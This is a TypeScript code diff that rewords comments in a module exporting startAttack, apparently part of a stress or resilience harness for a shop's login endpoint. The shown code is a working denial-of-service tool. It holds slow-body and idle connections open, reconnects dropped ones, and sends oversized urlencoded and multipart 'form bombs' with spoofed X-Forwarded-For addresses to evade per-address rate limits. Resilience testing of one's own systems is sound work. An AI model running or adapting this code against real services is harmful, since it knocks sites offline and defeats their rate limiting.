@@ -1,9 +1,9 @@
 import { randomInt } from 'node:crypto'
 import { connect, type Socket } from 'node:net'
 
-/** An attack that goes on until it is stopped. */
+/** An attack that continues until it is stopped. */
 export interface Attack {
-  /** Connections open now, and bombs sent so far. */
+  /** Open connections, and form bombs sent so far. */
   seen: () => { slow: number; idle: number; bombs: number }
   stop: () => void
 }
@@ -17,7 +17,7 @@ const PARTS = Array.from(
   { length: 20_000 },
   (_, place) => `--b\r\nContent-Disposition: form-data; name="k${place}"\r\n\r\nv\r\n`,
 )
-/** Bodies that a form library might take seriously. */
+/** Bodies that make a form library work hard. */
 const BOMBS: [type: string, body: string][] = [
   ['application/x-www-form-urlencoded', 'a[99999999]=1'],
   ['application/x-www-form-urlencoded', 'a[4999999]=1'],
@@ -27,8 +27,8 @@ const BOMBS: [type: string, body: string][] = [
 ]
 
 /**
- * Keeps 64 slow bodies (a byte every two seconds) and 200 idle connections open and sends 20 form bombs a second, each
- * from an address of its own, so that no limit by address helps.
+ * Keeps 64 slow bodies (a byte every two seconds) and 200 idle connections open and sends 20 form bombs per second, each from a
+ * different IP address, so that limits per address don't help.
  */
 export function startAttack(url: string): Attack {
   const { hostname, port, host } = new URL(url)
@@ -44,7 +44,7 @@ export function startAttack(url: string): Attack {
   }
   const head = (type: string, length: number) =>
     `POST /login HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${url}\r\nX-Forwarded-For: 10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
-  // What the shop cuts off comes back.
+  // Replace connections that the shop closes.
   const refill = () => {
     while (open.slow.size < SLOW_BODIES) dial(open.slow).write(head('application/x-www-form-urlencoded', 5_000))
     while (open.idle.size < IDLE) dial(open.idle)
